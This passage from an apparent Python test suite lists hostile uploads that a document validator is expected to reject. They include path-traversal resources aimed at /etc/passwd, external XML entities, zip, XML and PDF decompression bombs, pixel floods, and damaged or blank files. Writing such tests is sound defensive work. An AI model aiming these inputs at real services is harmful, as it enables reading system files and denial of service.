    Hostile("OFD: resource of the machine", _resource("file:///etc/passwd"), "upload.outside_content"),
    Hostile("OFD: resource above the package", _resource("../../../etc/passwd"), "upload.outside_content"),
    Hostile("OFD: entry above the package", lambda: m.ofd({"../../evil.xml": b"<a/>"}), "upload.damaged"),
    Hostile("OFD: entity from a file", _outside_entity, "upload.damaged"),
    # Bombs
    Hostile("OFD: swells to 300 MB", lambda: _zip_bomb(300), "upload.bomb"),
    Hostile("OFD: 3000 entries", lambda: _zip_many(3000), "upload.bomb"),
    Hostile("OFD: entries upon each other", _overlapping_zip, "upload.bomb"),
    Hostile("OFD: entities of entities", _xml_bomb, "upload.damaged"),
    Hostile("PDF: stream of 300 MB", lambda: _pdf(_raw_stream("/FlateDecode", _zeros(300))), "upload.bomb"),
    Hostile("PDF: packed five times", lambda: _pdf(_raw_stream("/FlateDecode /FlateDecode /FlateDecode /FlateDecode", _zeros(1))), "upload.bomb"),
    Hostile("PDF: picture of 10¹⁰ dots", lambda: _pdf(_image_bomb(100_000, 100_000)), "upload.pixels"),
    Hostile("PDF: nested without end", _deep_pdf, "upload.damaged"),
    Hostile("PDF: page of kilometres", lambda: _pdf(_huge_page), "upload.damaged"),
    Hostile("PNG of 10¹⁰ dots", lambda: _png_header(100_000, 100_000), "upload.pixels"),
    Hostile("PNG: text that swells (zTXt)", lambda: m.png_with(_bomb_chunk(b"zTXt")), "upload.bomb"),
    Hostile("PNG: text that swells (iTXt)", lambda: m.png_with(_bomb_chunk(b"iTXt")), "upload.bomb"),
    Hostile("PNG: profile that swells", lambda: m.png_with(_bomb_chunk(b"iCCP")), "upload.bomb"),
    Hostile("PNG: chunks without number", lambda: m.png_with(m.chunk(b"prVt", b"") * 25_000), "upload.bomb"),
    Hostile("JPEG of 4·10⁹ dots", lambda: _jpeg_sized(65_000, 65_000), "upload.pixels"),
    Hostile("JPEG: scans without number", _jpeg_many_scans, "upload.bomb"),
    Hostile("TIFF of 10¹⁰ dots", lambda: _tiff_sized(100_000, 100_000), "upload.pixels"),
    # Not fit to be read
    Hostile("PDF without pages", lambda: _pdf(_no_pages), "upload.damaged"),
    Hostile("PDF with too many pages", lambda: m.text_pdf(21), "upload.pages"),
    Hostile("OFD with too many pages", lambda: m.ofd(pages=21), "upload.pages"),
    Hostile("TIFF with too many pages", lambda: m.tiff(21, "1"), "upload.pages"),
    Hostile("broken PDF", lambda: b"%PDF-1.7\n%%EOF\n", "upload.damaged"),
    Hostile("PDF cut off", lambda: m.text_pdf()[:400], "upload.damaged"),
    Hostile("JPEG cut off", lambda: m.jpeg()[:9000], "upload.damaged"),
    Hostile("PNG cut off", lambda: m.png()[:9000], "upload.damaged"),
    Hostile("PNG with a wrong check sum", lambda: m.png().replace(b"IEND\xaeB`\x82", b"IEND\0\0\0\0"), "upload.damaged"),
    Hostile("TIFF cut off", lambda: m.tiff()[:100], "upload.damaged"),
    Hostile("HEIC of nothing", lambda: _heic((b"meta", b""), (b"mdat", b"")), "upload.damaged"),
    Hostile("OFD without document", lambda: m.zipped({"OFD.xml": b"<a/>"}), "upload.damaged"),
    Hostile("OFD without root", lambda: m.zipped({"Doc/OFD.xml": b"<a/>"}), "upload.archive"),
    Hostile("picture too small to read", lambda: m.jpeg(500, 400), "upload.resolution"),
    Hostile("scan at 40 dpi in a PDF", lambda: m.scan_pdf(m.jpeg(330, 467), 330, 467), "upload.resolution"),
    Hostile("blank picture", m.blank, "upload.blank"),
    Hostile("black picture", lambda: m.blank("PNG", 3), "upload.blank"),
    Hostile("blank PDF", lambda: _pdf(lambda pdf: pdf.pages[0].obj.__setitem__("/Contents", pdf.make_stream(b""))), "upload.blank"),
    Hostile("blank OFD", lambda: m.ofd(drawn=False), "upload.blank"),
    Hostile("blurred picture", m.blurred, "upload.blurred"),
    Hostile("blurred scan in a PDF", lambda: m.scan_pdf(m.blurred(), 900, 1200), "upload.blurred"),
    Hostile("larger than the kind takes", lambda: m.jpeg() + bytes(21 << 20), "upload.too_large"),
)  # fmt: skip


def _gap() -> bytes:
    """An OFD with octets between two entries that no line of the directory names."""
    data = m.zipped(m.ofd_entries())
    end = data.rfind(b"PK\x05\x06")
    offset = struct.unpack_from("<I", data, end + 16)[0]
    return (
        data[:offset]
        + b"secret"
        + data[offset:end]
        + data[end : end + 16]
        + struct.pack("<I", offset + 6)
        + data[end + 20 :]
    )
